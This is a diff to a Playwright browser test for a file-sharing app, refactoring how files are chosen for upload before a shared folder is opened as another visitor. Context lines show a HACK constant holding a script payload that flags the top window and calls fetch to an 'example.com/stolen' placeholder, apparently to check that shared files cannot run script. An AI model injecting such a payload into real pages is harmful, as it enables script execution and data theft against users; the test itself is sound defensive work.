@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test';
-import { openFolder, shareLink, startUpload } from './acts.ts';
+import { chooseFilesButton, openFolder, pick, shareLink, startUpload } from './acts.ts';
 import { atRest, violations } from './axe.ts';
 import { expect, test } from './browser.ts';
 import { type MadeFile, pdf, png, textFile, wav } from './made-files.ts';
@@ -10,7 +10,7 @@ const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 /** Sends files as somebody, and opens their folder as somebody else. */
 async function shared(page: Page, newVisitor: () => Promise<Page>, files: readonly MadeFile[]): Promise<Page> {
   await page.goto('/');
-  await page.getByLabel('Files', { exact: true }).setInputFiles([...files]);
+  await pick(chooseFilesButton(page), [...files]);
   await startUpload(page);
   const link = await shareLink(page);
   const visitor = await newVisitor();
